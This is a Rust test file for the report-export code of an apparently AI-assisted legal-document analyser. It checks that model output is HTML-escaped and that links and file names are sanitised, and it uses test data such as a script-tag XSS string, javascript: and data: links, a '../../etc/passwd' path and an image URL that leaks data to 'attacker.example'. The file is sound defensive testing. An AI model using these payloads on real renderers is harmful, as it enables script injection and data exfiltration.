use chrono::{TimeZone, Utc};
use docket_core::{
    export::{file_stem, is_safe_link, markdown_to_html, ExportFormat, Report},
    types::{Analysis, ChatMessage, DocumentInfo},
};

fn fixture() -> (DocumentInfo, Analysis) {
    let at = Utc.with_ymd_and_hms(2024, 5, 1, 9, 30, 0).unwrap();
    let doc = DocumentInfo {
        name: "Lease <Final>.pdf".into(),
        page_count: 3,
        text_pages: 2,
        char_count: 4200,
        sha256: "ab".repeat(32),
        truncated: true,
        uploaded_at: at,
    };
    let analysis = Analysis {
        summary: "This lease rents **Unit 4** to the tenant.".into(),
        risks: "**⚠️ High-Priority Clauses & Risks:**\n* Late fee of 10%".into(),
        dashboard: "| Item | Details |\n|---|---|\n| Overall Risk Level | Medium |".into(),
        model: "gemini/gemini-1.5-flash".into(),
        generated_at: at,
    };
    (doc, analysis)
}

#[test]
fn markdown_report_has_every_section() {
    let (doc, analysis) = fixture();
    let messages = vec![ChatMessage::user("Late fee?"), ChatMessage::assistant("10%.")];
    let report = Report { document: &doc, analysis: &analysis, messages: &messages };

    let md = report.markdown();
    assert!(md.starts_with("# Legal Document Analysis: Lease <Final>.pdf"));
    assert!(md.contains("- **Pages:** 3 (2 with text), text truncated for analysis"));
    assert!(md.contains("- **Generated:** 2024-05-01 09:30 UTC"));
    assert!(md.contains("## Simple Summary\n\nThis lease rents **Unit 4**"));
    assert!(md.contains("## Risk & Clause Breakdown"));
    assert!(md.contains("## Executive Dashboard"));
    assert!(md.contains("**User:** Late fee?"));
    assert!(md.contains("**Assistant:** 10%."));
    assert!(md.contains("not legal advice"));
}

#[test]
fn markdown_report_omits_empty_transcript() {
    let (doc, analysis) = fixture();
    let report = Report { document: &doc, analysis: &analysis, messages: &[] };
    assert!(!report.markdown().contains("Questions & Answers"));
}

#[test]
fn html_report_escapes_names_and_renders_tables() {
    let (doc, analysis) = fixture();
    let report = Report { document: &doc, analysis: &analysis, messages: &[] };

    let html = report.html();
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(html.contains("Lease &lt;Final&gt;.pdf"));
    assert!(!html.contains("<Final>"));
    assert!(html.contains("<strong>Unit 4</strong>"));
    assert!(html.contains("<table>"));
    assert!(html.contains("<td>Medium</td>"));
}

#[test]
fn raw_html_from_the_model_is_escaped() {
    let out = markdown_to_html("Hello <script>alert(1)</script>");
    assert!(!out.contains("<script>"));
    assert!(out.contains("&lt;script&gt;"));
}

#[test]
fn script_links_are_neutralised_and_images_not_loaded() {
    let out = markdown_to_html(
        "See [the clause](javascript:alert(document.domain)) and ![x](https://attacker.example/leak?d=rent)",
    );
    assert!(!out.contains("href=\"javascript:"), "{out}");
    assert!(out.contains("<a href=\"#\">the clause</a>"), "{out}");
    assert!(!out.contains("<img"), "{out}");
    assert!(out.contains("<a href=\"https://attacker.example/leak?d=rent\">x</a>"), "{out}");

    let autolink = markdown_to_html("<javascript:alert(1)> and [upper](JAVASCRIPT:alert(1))");
    assert!(!autolink.contains("href=\"java"), "{autolink}");
    assert_eq!(autolink.matches("href=\"#\"").count(), 2, "{autolink}");
}

#[test]
fn ordinary_links_survive() {
    let out = markdown_to_html("[terms](https://example.com/terms) [mail](mailto:legal@example.com) [s](#risks)");
    assert!(out.contains("href=\"https://example.com/terms\""));
    assert!(out.contains("href=\"mailto:legal@example.com\""));
    assert!(out.contains("href=\"#risks\""));

    assert!(is_safe_link("/export?format=html"));
    assert!(!is_safe_link(" JavaScript:alert(1)"));
    assert!(!is_safe_link("data:text/html;base64,PHNjcmlwdD4="));
    assert!(!is_safe_link("vbscript:msgbox"));
}

#[test]
fn file_names_are_sanitized() {
    assert_eq!(file_stem("Lease <Final>.pdf"), "Lease__Final");
    assert_eq!(file_stem("C:\\docs\\nda.v2.pdf"), "nda_v2");
    assert_eq!(file_stem("../../etc/passwd"), "passwd");
    assert_eq!(file_stem(".pdf"), "pdf");
    assert_eq!(file_stem("???"), "document");

    let (doc, analysis) = fixture();
    let report = Report { document: &doc, analysis: &analysis, messages: &[] };
    assert_eq!(report.file_name(ExportFormat::Html), "Lease__Final-analysis.html");
}

#[test]
fn export_format_parsing() {
    assert_eq!(ExportFormat::parse("MD"), Some(ExportFormat::Markdown));
    assert_eq!(ExportFormat::parse("markdown"), Some(ExportFormat::Markdown));
    assert_eq!(ExportFormat::parse("html"), Some(ExportFormat::Html));
    assert_eq!(ExportFormat::parse("pdf"), None);
}
